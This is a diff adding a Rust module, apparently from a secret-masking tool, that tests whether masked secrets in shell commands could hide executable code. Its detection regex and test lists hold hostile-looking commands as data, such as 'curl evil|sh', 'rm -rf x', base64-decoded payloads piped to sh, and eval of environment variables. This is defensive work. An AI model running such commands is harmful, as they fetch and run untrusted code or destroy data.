@@ -1,0 +1,579 @@
+//! Whether what is masked may run.
+//!
+//! The command is judged twice: as it is, and with a mark in the place of each secret. If both run
+//! the same programs on the same terms, the secrets are data. A secret that becomes the name of a
+//! program, or changes which programs run, is code and is shown. Where text runs that is only known
+//! then, and a secret may get into it, nothing can be said: the command hides code.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::tokens::TOKENS;
+use super::{Hidden, Kind};
+use crate::classify::{Classifier, Crud, Part, Parts, Script, ScriptLanguage, UNKNOWN, Word};
+
+/// Of more secrets than this it is not found out which one is code.
+const MOST_SECRETS: usize = 32;
+
+/// Takes out of the ranges what is code; returns whether one that stays may run.
+pub(super) fn reveal(command: &str, ranges: &mut Vec<Hidden>) -> bool {
+    if ranges.is_empty() {
+        return false;
+    }
+    let classifier = Classifier::new();
+    let mark = mark_for(command);
+    let Some(truth) = classifier.parts(command) else {
+        return true;
+    };
+    let judged = |ranges: &[Hidden]| classifier.parts(&marked(command, ranges, &mark));
+    let Some(mut shown) = judged(ranges) else {
+        return true;
+    };
+    if !runs_same_programs(&truth, &shown, &mark) && ranges.len() <= MOST_SECRETS {
+        let is_code = |range: &Hidden| {
+            let shown = judged(std::slice::from_ref(range));
+            shown.is_none_or(|shown| !runs_same_programs(&truth, &shown, &mark))
+        };
+        let mut secrets = Vec::new();
+        for range in std::mem::take(ranges) {
+            match is_code(&range) {
+                true => secrets.extend(tokens_in(command, &range).filter(|token| !is_code(token))),
+                false => secrets.push(range),
+            }
+        }
+        *ranges = secrets;
+        if ranges.is_empty() {
+            return false;
+        }
+        let Some(again) = judged(ranges) else {
+            return true;
+        };
+        shown = again;
+    }
+    let is_followed = |parts: &Parts| parts.agreed && parts.complete;
+    !is_followed(&truth)
+        || !is_followed(&shown)
+        || !runs_same_programs(&truth, &shown, &mark)
+        || !runs_alike(&truth, &shown, &mark)
+        || Reach::new(&shown, &mark).reaches_code()
+}
+
+/// A word that is not in the command.
+fn mark_for(command: &str) -> String {
+    let mark = |number: usize| format!("q7hidden{number}");
+    let free = (0..).map(mark).find(|mark| !command.contains(mark));
+    free.unwrap_or_default()
+}
+
+/// The command with a mark in the place of every word of its secrets: what else is in them stays, so
+/// that a shell reads it as it reads them.
+fn marked(command: &str, ranges: &[Hidden], mark: &str) -> String {
+    let mut text = String::with_capacity(command.len());
+    let mut at = 0;
+    for (range, _) in ranges {
+        text.push_str(&command[at..range.start]);
+        let mut in_word = false;
+        for c in command[range.clone()].chars() {
+            match (c.is_alphanumeric(), in_word) {
+                (true, false) => text.push_str(mark),
+                (true, true) => {}
+                (false, _) => text.push(c),
+            }
+            in_word = c.is_alphanumeric();
+        }
+        at = range.end;
+    }
+    text.push_str(&command[at..]);
+    text
+}
+
+/// The tokens of known issuers within a longer secret.
+fn tokens_in<'c>(
+    command: &'c str,
+    (range, _): &'c Hidden,
+) -> impl Iterator<Item = Hidden> + use<'c> {
+    let inside = &command[range.clone()];
+    let found = TOKENS.iter().flat_map(move |token| token.find(inside));
+    let mut found: Vec<_> = found
+        .filter(|token| token.len() < range.len())
+        .map(|token| range.start + token.start..range.start + token.end)
+        .collect();
+    found.sort_by_key(|token| (token.start, std::cmp::Reverse(token.end)));
+    let mut end = 0;
+    found.retain(|token| {
+        let is_apart = token.start >= end;
+        end = end.max(token.end);
+        is_apart
+    });
+    found.into_iter().map(|token| (token, Kind::Secret))
+}
+
+/// Whether the same programs run in the same places, and no mark says which.
+fn runs_same_programs(truth: &Parts, shown: &Parts, mark: &str) -> bool {
+    let program = |part: &Part| part.words.first().map(|word| word.text.clone());
+    truth.all.len() == shown.all.len()
+        && truth.all.iter().zip(&shown.all).all(|(truth, shown)| {
+            let name = program(shown);
+            truth.within == shown.within
+                && program(truth) == name
+                && !name.is_some_and(|name| name.contains(mark))
+        })
+}
+
+/// Whether programs are told the same, but for the secrets.
+fn runs_alike(truth: &Parts, shown: &Parts, mark: &str) -> bool {
+    let same = |truth: &Word, shown: &Word| {
+        shown.text.contains(mark) || (truth.text == shown.text && truth.known == shown.known)
+    };
+    let all = |truth: &[Word], shown: &[Word]| {
+        truth.len() == shown.len() && truth.iter().zip(shown).all(|(one, other)| same(one, other))
+    };
+    let parts = truth.all.iter().zip(&shown.all).all(|(truth, shown)| {
+        let calls = truth.calls.iter().zip(&shown.calls).all(|(one, other)| {
+            let options = one.options.iter().zip(&other.options);
+            one.path == other.path
+                && one.options.len() == other.options.len()
+                && options.clone().all(|((one, _), (other, _))| one == other)
+                && one.operands.len() == other.operands.len()
+        });
+        let files = truth.redirections.iter().zip(&shown.redirections);
+        let values = truth.assignments.iter().zip(&shown.assignments);
+        calls
+            && truth.calls.len() == shown.calls.len()
+            && all(&truth.words, &shown.words)
+            && all(&truth.documents, &shown.documents)
+            && truth.redirections.len() == shown.redirections.len()
+            && files
+                .clone()
+                .all(|(one, other)| one.effect == other.effect && same(&one.path, &other.path))
+            && truth.assignments.len() == shown.assignments.len()
+            && values
+                .clone()
+                .all(|(one, other)| one.name == other.name && same(&one.value, &other.value))
+            && truth.effect == shown.effect
+            && truth.code == shown.code
+            && truth.runs_input == shown.runs_input
+            && truth.runs_unknown == shown.runs_unknown
+            && truth.substitutions == shown.substitutions
+            && truth.input.as_ref().map(Option::is_some) == shown.input.as_ref().map(Option::is_some)
+    });
+    let scripts = truth.scripts.iter().zip(&shown.scripts);
+    parts
+        && truth.scripts.len() == shown.scripts.len()
+        && scripts.clone().all(|(one, other)| one.part == other.part)
+        && truth.loose == shown.loose
+        && truth.substitutions == shown.substitutions
+        && truth.functions == shown.functions
+        && truth.runs_unknown == shown.runs_unknown
+}
+
+/// Where the marks may get to when the command runs.
+struct Reach<'p> {
+    parts: &'p Parts,
+    mark: &'p str,
+    /// Whether a part has a mark in its words, documents or files.
+    told: Vec<bool>,
+    /// Whether a part sets a variable to a mark.
+    sets: Vec<bool>,
+}
+
+/// Commands of a shell that set variables.
+const SETTERS: &[&str] = &[
+    "export", "declare", "typeset", "local", "readonly", "env", "set", "setenv",
+];
+
+/// Commands of a shell that set variables to what they read.
+const READERS: &[&str] = &["read", "mapfile", "readarray", "getopts", "coproc", "select"];
+
+/// Clients that run what they read, and are given passwords: they never run those.
+const CLIENTS: &[&str] = &[
+    "psql",
+    "mysql",
+    "mariadb",
+    "sqlcmd",
+    "clickhouse-client",
+    "clickhouse",
+    "cqlsh",
+    "mongosh",
+    "mongo",
+    "redis-cli",
+    "valkey-cli",
+    "keydb-cli",
+    "snowsql",
+    "sqlplus",
+    "ldapmodify",
+];
+
+/// Wrappers that are given passwords, and tell them nobody else.
+const KEEPERS: &[&str] = &["sshpass"];
+
+impl<'p> Reach<'p> {
+    fn new(parts: &'p Parts, mark: &'p str) -> Self {
+        let has = |word: &Word| word.text.contains(mark);
+        let told = parts.all.iter().map(|part| {
+            part.words.iter().any(has)
+                || part.documents.iter().any(has)
+                || part.redirections.iter().any(|file| has(&file.path))
+        });
+        let sets = parts.all.iter().map(|part| {
+            part.assignments.iter().any(|one| has(&one.value))
+                || is_one_of(part, SETTERS) && part.words.iter().any(has)
+        });
+        Self {
+            told: told.collect(),
+            sets: sets.collect(),
+            parts,
+            mark,
+        }
+    }
+
+    fn reaches_code(&self) -> bool {
+        let unknown = |at: &usize| {
+            let part = &self.parts.all[*at];
+            part.runs_unknown || self.sources(part)
+        };
+        self.parts.runs_unknown
+            || (0..self.parts.all.len())
+                .filter(unknown)
+                .any(|at| self.reaches_unknown(at))
+            || self
+                .parts
+                .scripts
+                .iter()
+                .any(|script| self.reaches_script(script))
+            || self.reaches_file()
+    }
+
+    /// Whether a part runs a file that is a pipe or a substitution.
+    fn sources(&self, part: &Part) -> bool {
+        is_one_of(part, &["source", "."])
+            && part.words.iter().skip(1).any(|file| {
+                file.text.starts_with("/dev/")
+                    || file.text.starts_with("/proc/")
+                    || file.text.contains(UNKNOWN)
+            })
+    }
+
+    /// Whether a mark may be in what a part runs that is only known then.
+    fn reaches_unknown(&self, at: usize) -> bool {
+        let part = &self.parts.all[at];
+        let is_client = is_one_of(part, CLIENTS);
+        let knows_program = (part.words.first())
+            .is_some_and(|name| !name.text.contains(UNKNOWN) && !name.pattern);
+        let is_set = self.sets.contains(&true);
+        let substituted = (at + 1..self.parts.all.len())
+            .filter(|other| self.ancestors(*other).any(|around| around == at))
+            .collect::<Vec<_>>();
+        let reads = READERS.iter().any(|reader| {
+            let is_reader = |part: &Part| part.program() == Some(reader);
+            self.parts.all.iter().any(is_reader)
+        });
+        let chain = || std::iter::once(at).chain(self.ancestors(at));
+        substituted.iter().any(|other| self.told[*other])
+            || is_set && !is_client && (!substituted.is_empty() || part.substitutions)
+            || self.ancestors(at).any(|around| {
+                let keeps = is_one_of(&self.parts.all[around], KEEPERS);
+                !keeps && (self.told[around] || self.sets[around])
+            })
+            || chain().any(|one| self.reaches_input(one, at, is_client))
+            || reads && !is_client && (is_set || self.told.contains(&true))
+            || !is_client && knows_program && self.told[at]
+    }
+
+    /// Whether a mark may be in the input of a part, which is this one or is around it.
+    fn reaches_input(&self, at: usize, of: usize, is_client: bool) -> bool {
+        match &self.parts.all[at].input {
+            None => false,
+            Some(Some(text)) => text.contains(self.mark),
+            Some(None) => {
+                let keeps =
+                    |other: usize| is_one_of(&self.parts.all[other], KEEPERS) && at != other;
+                (0..self.parts.all.len())
+                    .filter(|other| *other != of || !is_client)
+                    .any(|other| {
+                        (other <= of && self.told[other] && !keeps(other))
+                            || (self.sets[other] && !is_client)
+                    })
+            }
+        }
+    }
+
+    /// Whether a script in another language may run a mark.
+    fn reaches_script(&self, script: &Script) -> bool {
+        let within = script.part;
+        let here = within.is_some_and(|at| {
+            let around = std::iter::once(at).chain(self.ancestors(at));
+            around.into_iter().any(|at| self.told[at])
+                || self.reaches_input(at, at, false)
+        });
+        let is_in = script.text.contains(self.mark);
+        let is_told = is_in || here || self.sets.contains(&true);
+        is_told && evaluates(script.language, &script.text)
+            || is_in && !is_quoted(script.language, &script.text, self.mark)
+    }
+
+    /// Whether a mark is written to a file that the command runs, as code that evaluates text.
+    fn reaches_file(&self) -> bool {
+        self.parts.all.iter().enumerate().any(|(at, part)| {
+            let text = || {
+                let words = part.words.iter().chain(&part.documents);
+                words.map(|word| &*word.text).collect::<Vec<_>>().join(" ")
+            };
+            let files = part.redirections.iter().chain(&part.touches);
+            let mut written = files.filter(|file| file.effect > Crud::Read);
+            let runs = |name: &str| {
+                self.parts.all.iter().enumerate().any(|(other, part)| {
+                    let names = |word: &Word| word.text.ends_with(name);
+                    other != at && part.code && part.words.iter().any(names)
+                })
+            };
+            self.told[at]
+                && written.any(|file| runs(file.path.text.rsplit('/').next().unwrap_or_default()))
+                && evaluates(ScriptLanguage::Code, &text())
+        })
+    }
+
+    /// The parts around one, from the inside.
+    fn ancestors(&self, at: usize) -> impl Iterator<Item = usize> + '_ {
+        let around = |at: &usize| self.parts.all[*at].within;
+        std::iter::successors(around(&at), move |at| around(at))
+    }
+}
+
+fn is_one_of(part: &Part, names: &[&str]) -> bool {
+    part.program().is_some_and(|name| names.contains(&name))
+}
+
+/// Whether a script evaluates text that it does not show, as far as its words tell.
+fn evaluates(language: ScriptLanguage, text: &str) -> bool {
+    static ANY: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r#"(?i)(?:^|[^\w.])(?:eval|exec|compile|execfile|system|popen|syscall|qx|iex|create_function|call_user_func\w*|passthru|shell_exec|proc_open|pcntl_exec|loadstring|loadfile|dofile|spawn\w*|fork|function\s*\()\s*[\s({"'`$\[/!|]|\.(?:eval|system|popen\w*|exec[lv]\w*|spawn\w*|instance_eval|class_eval|module_eval|instance_exec|runin\w*context|execute_script|call)\b|subprocess|child_process|\bpty\b|runpy|pickle|marshal|importlib|builtins|__(?:import|class|subclasses|globals|dict|getattribute)\w*__|\b(?:globals|locals|vars)\(|invoke-|scriptblock|os\.exec|io\.popen|open3|`|%x[\W_]|\|\s*getline|print[^;\n]*\||require\(\s*[^'"\s]|import\(\s*[^'"\s]|\bvm\b|getattr\(\s*(?:os|sys)|\bconstructor\b"#,
+        )
+    });
+    static PERL: LazyLock<Regex> =
+        LazyLock::new(|| pattern(r#"\bopen\s*\(?[^;]*\||/e[egimsx]*\b|\bdo\s+[$"'{]|\brequire\s+\$"#));
+    static RUBY: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(r"\b(?:public_)?send\b|__send__|\bmethod\(|\bopen\s*\(?\s*[^)]*\||\bload\b|Kernel")
+    });
+    static PHP: LazyLock<Regex> =
+        LazyLock::new(|| pattern(r"(?i)\bassert\s*\(|\$\w+\s*\(|preg_replace\s*\(\s*.[^,]*/e|\binclude\b|\brequire\b"));
+    static LUA: LazyLock<Regex> = LazyLock::new(|| pattern(r"\bload\s*[(\x22']|os\.execute"));
+    static SHELLED: LazyLock<Regex> = LazyLock::new(|| {
+        pattern(
+            r"(?i)\\!|\bprogram\s+['\x22$]|xp_cmdshell|\bexec(?:ute)?\s*(?:\(|immediate|format|'|@)|sp_executesql|\bdo\s+\$|\bprepare\b|\bsystem\s|\.(?:shell|system)\b|load_extension|\beval(?:sha)?\b",
+        )
+    });
+    static SED: LazyLock<Regex> = LazyLock::new(|| pattern(r"[/|,#!:@]\w*e\w*\s*(?:$|[;}\n])|(?:^|[;{\n])\s*\d*e\b"));
+    match language {
+        ScriptLanguage::Jq => false,
+        ScriptLanguage::Sed => SED.is_match(text),
+        ScriptLanguage::Sql | ScriptLanguage::Redis => SHELLED.is_match(text),
+        ScriptLanguage::PowerShell | ScriptLanguage::Cmd => {
+            ANY.is_match(text) || text.contains("& ") || text.contains("&$") || text.contains("%")
+        }
+        ScriptLanguage::Perl => ANY.is_match(text) || PERL.is_match(text),
+        ScriptLanguage::Ruby => ANY.is_match(text) || RUBY.is_match(text),
+        ScriptLanguage::Php => ANY.is_match(text) || PHP.is_match(text),
+        ScriptLanguage::Lua => ANY.is_match(text) || LUA.is_match(text),
+        ScriptLanguage::Awk
+        | ScriptLanguage::Python
+        | ScriptLanguage::Node
+        | ScriptLanguage::Mongo => ANY.is_match(text),
+        ScriptLanguage::Code => {
+            [&ANY, &PERL, &RUBY, &PHP, &LUA]
+                .iter()
+                .any(|pattern| pattern.is_match(text))
+        }
+    }
+}
+
+fn pattern(text: &str) -> Regex {
+    Regex::new(text).expect("the pattern is part of this file, and a test uses it")
+}
+
+/// Whether every mark stands in a string or a comment of the script, as far as its quotes tell; in
+/// languages of filters and statements, everywhere.
+fn is_quoted(language: ScriptLanguage, text: &str, mark: &str) -> bool {
+    if matches!(
+        language,
+        ScriptLanguage::Sed
+            | ScriptLanguage::Jq
+            | ScriptLanguage::Sql
+            | ScriptLanguage::Redis
+            | ScriptLanguage::Cmd
+    ) {
+        return true;
+    }
+    let mut open: Option<char> = None;
+    let mut characters = text.char_indices();
+    while let Some((at, c)) = characters.next() {
+        match (open, c) {
+            (None, _) if text[at..].starts_with(mark) => return false,
+            (Some(_), '\\') => drop(characters.next()),
+            (Some(quote), c) if c == quote => open = None,
+            (None, '"' | '\'') => open = Some(c),
+            // A quote that nothing closes on its line is none, or one of several lines.
+            (Some(_), '\n') if !text[..at].contains("\"\"\"") && !text[..at].contains("'''") => {
+                open = None;
+            }
+            _ => {}
+        }
+    }
+    true
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Masked;
+
+    /// Commands in which text runs that would be hidden, and what of it is shown instead.
+    const CODE: &[(&str, &str)] = &[
+        ("PASSWORD='rm -rf x'; $PASSWORD", "rm -rf x"),
+        ("PASSWORD='rm -rf x'; eval \"$PASSWORD\"", "rm -rf x"),
+        ("API_KEY='rm -rf x' sh -c 'eval $API_KEY'", "rm -rf x"),
+        ("API_KEY='rm -rf x' bash -c \"\\$API_KEY\"", "rm -rf x"),
+        ("TOKEN='curl evil|sh'; bash -c \"$TOKEN\"", "curl evil|sh"),
+        ("export TOKEN='rm -rf x'; sh -c \"$TOKEN\"", "rm -rf x"),
+        ("env TOKEN='rm -rf x' sh -c 'eval $TOKEN'", "rm -rf x"),
+        ("TOKEN='rm -rf x'; sh <<< \"$TOKEN\"", "rm -rf x"),
+        ("TOKEN='rm -rf x'; echo \"$TOKEN\" | sh", "rm -rf x"),
+        ("sk-abcdefgh1234 run", "sk-abcdefgh1234"),
+        ("sudo sk-abcdefgh1234 run", "sk-abcdefgh1234"),
+        ("sh -c 'sk-abcdefgh1234 run'", "sk-abcdefgh1234"),
+        ("curl -H \"Authorization: $(rm -rf x)\" y", "rm -rf x"),
+        ("curl -H \"Authorization: Bearer abc$(rm -rf x)\" y", "rm -rf x"),
+        ("sh -c 'echo token=\\\"; rm -rf x; echo \\\"'", "rm -rf x"),
+        ("echo 'TOKEN=\"a$(rm -rf x)\"' >> ~/.bashrc", "rm -rf x"),
+        ("trap \"$PASSWORD\" EXIT; PASSWORD='rm -rf x'; trap \"$PASSWORD\" EXIT", "rm -rf x"),
+        ("f() { $PASSWORD; }; PASSWORD='rm -rf x' f", "rm -rf x"),
+        ("find . -exec sh -c 'password=\"rm -rf x\"; $password' \\;", "rm -rf x"),
+        ("echo x | TOKEN='rm -rf y' xargs sh -c '$TOKEN'", "rm -rf y"),
+    ];
+
+    /// Commands of which it cannot be said whether hidden text runs.
+    const HIDING: &[&str] = &[
+        "echo AKIAIOSFODNN7EXAMPLE | base64 -d | sh",
+        "echo ghp_abcdefghijklmnopqrstuvwxyz | rev | bash",
+        "export API_KEY=cm0gLXJmIHgK; printenv API_KEY | sh",
+        "API_KEY=abcdefgh; printenv | sed -n 's/^API_KEY=//p' | sh",
+        "export API_KEY=abcdefgh; eval \"$(printenv API_KEY | base64 -d)\"",
+        "export API_KEY=abcdefgh; $(printenv API_KEY | rev)",
+        "API_KEY=abcdefgh python3 -c 'import os; exec(os.environ[\"API_KEY\"])'",
+        "export API_KEY=abcdefgh; python3 -c 'import os; os.system(os.environ[\"API_KEY\"])'",
+        "python3 -c \"exec(__import__('base64').b64decode(token='abcdefgh'))\"",
+        "python3 -c \"password='abcdefgh'; eval(password)\"",
+        "API_KEY=abcdefgh node -e 'eval(process.env.API_KEY)'",
+        "API_KEY=abcdefgh node -e 'require(\"child_process\").exec(process.env.API_KEY)'",
+        "API_KEY=abcdefgh perl -e 'eval $ENV{API_KEY}'",
+        "API_KEY=abcdefgh perl -e 'system $ENV{API_KEY}'",
+        "API_KEY=abcdefgh ruby -e 'eval ENV[\"API_KEY\"]'",
+        "API_KEY=abcdefgh ruby -e '`#{ENV[\"API_KEY\"]}`'",
+        "API_KEY=abcdefgh php -r 'eval(getenv(\"API_KEY\"));'",
+        "API_KEY=abcdefgh awk 'BEGIN{system(ENVIRON[\"API_KEY\"])}'",
+        "API_KEY=abcdefgh awk 'BEGIN{ENVIRON[\"API_KEY\"] | getline x}'",
+        "API_KEY=abcdefgh lua -e 'os.execute(os.getenv(\"API_KEY\"))'",
+        "docker run -e API_KEY=abcdefgh image sh -c 'eval $API_KEY'",
+        "echo password=abcdefgh | cut -d= -f2 | xargs -I{} sh -c '{}'",
+        "source <(echo password=abcdefgh | cut -d= -f2)",
+        "echo password=abcdefgh | cut -d= -f2 | source /dev/stdin",
+        "read x < <(echo password=abcdefgh | cut -d= -f2); $x",
+        "echo password=abcdefgh | cut -d= -f2 | while read x; do $x; done",
+        "python3 <<E\nimport os\npassword = 'abcdefgh'\nos.system(password[::-1])\nE",
+        "cat > x.py <<E\npassword = 'abcdefgh'\nexec(password)\nE\npython3 x.py",
+        "python3 -c 'token=os.system;token(\"rm -rf x\")'",
+        "password=abcdefgh; bash -c \"$(echo $password | rev)\"",
+    ];
+
+    /// Commands whose secrets are data.
+    const DATA: &[&str] = &[
+        "GITHUB_TOKEN=ghp_abcdefgh gh pr list",
+        "export GITHUB_TOKEN=ghp_abcdefgh && $HOME/bin/frob",
+        "export GITHUB_TOKEN=ghp_abcdefgh && cargo publish",
+        "API_KEY=abcdefgh ./run.sh --now",
+        "API_KEY=abcdefgh bash run.sh",
+        "API_KEY=abcdefgh npm run deploy",
+        "API_KEY=abcdefgh make deploy",
+        "TOKEN=abcdefgh; curl -H \"Authorization: Bearer $TOKEN\" https://x.example",
+        "bash -lc 'GITHUB_TOKEN=ghp_abcdefgh gh pr list | head -5'",
+        "bash -c 'curl -H \"Authorization: Bearer abcdefgh\" https://x.example | jq .a'",
+        "TOKEN=abcdefgh; eval \"echo $TOKEN\"",
+        "eval \"$(ssh-agent)\"; curl -u ada:abcdefgh https://x.example",
+        "source .env && curl -u ada:abcdefgh https://x.example",
+        "source venv/bin/activate && API_KEY=abcdefgh python x.py",
+        "API_KEY=abcdefgh python3 -c 'import os; print(os.environ[\"API_KEY\"])'",
+        "API_KEY=abcdefgh python3 -c 'import json, os; print(json.loads(os.environ[\"A\"]))'",
+        "python3 - <<E\nimport requests\ntoken = 'abcdefgh'\nprint(requests.get('https://x', headers={'a': token}).text)\nE",
+        "API_KEY=abcdefgh node -e 'console.log(process.env.API_KEY)'",
+        "PGPASSWORD=abcdefgh psql -h h -c 'SELECT 1'",
+        "cat dump.sql | mysql -uroot -pabcdefgh app",
+        "PGPASSWORD=abcdefgh psql < dump.sql",
+        "gunzip -c dump.sql.gz | PGPASSWORD=abcdefgh psql app",
+        "sshpass -p abcdefgh ssh h 'ls -la'",
+        "sshpass -p abcdefgh ssh h bash -s < x.sh",
+        "echo abcdefgh | sudo -S apt-get update",
+        "echo abcdefgh | docker login --password-stdin r.example",
+        "git clone https://ada:abcdefgh@x.example/r.git && cd r && make",
+        "for i in 1 2; do curl -u ada:abcdefgh https://x.example/$i; done",
+        "docker run -e API_KEY=abcdefgh image",
+        "docker run -e API_KEY=abcdefgh image sh -c 'ls /'",
+        "cat > .env <<E\nAPI_KEY=abcdefgh\nE",
+        "cat > deploy.sh <<'E'\nexport TOKEN=abcdefgh\ncurl -H \"A: $TOKEN\" https://x\nE\nbash deploy.sh",
+        "kubectl create secret generic a --from-literal=b=abcdefgh",
+        "echo '{\"password\": \"abcdefgh\"}' | jq .password",
+        "sed -i 's/password=.*/password=abcdefgh/' app.conf",
+        "awk -v token=abcdefgh '{print token, $1}' x",
+    ];
+
+    #[test]
+    fn what_runs_is_shown() {
+        let mut wrong = Vec::new();
+        for (command, code) in CODE {
+            let masked = Masked::for_storage(command);
+            if !masked.text.contains(code) && !masked.hides_code() {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn text_that_may_run_unseen_is_told() {
+        let mut wrong = Vec::new();
+        for command in HIDING {
+            let masked = Masked::for_storage(command);
+            let is_masked = masked.text != *command;
+            if is_masked && !masked.hides_code() {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+            if !is_masked {
+                wrong.push(format!("shown as it is: {command}"));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn secrets_that_are_data_hide_no_code() {
+        let mut wrong = Vec::new();
+        for command in DATA {
+            let masked = Masked::for_storage(command);
+            if masked.hides_code() || !masked.text.contains("[secret]") {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn a_token_within_code_stays_hidden() {
+        let masked = Masked::for_storage(
+            "SECRET='curl -H ghp_abcdefgh12 https://x | sh'; eval \"$SECRET\"",
+        );
+        assert_eq!(
+            masked.text,
+            "SECRET='curl -H [secret] https://x | sh'; eval \"$SECRET\""
+        );
+    }
+}
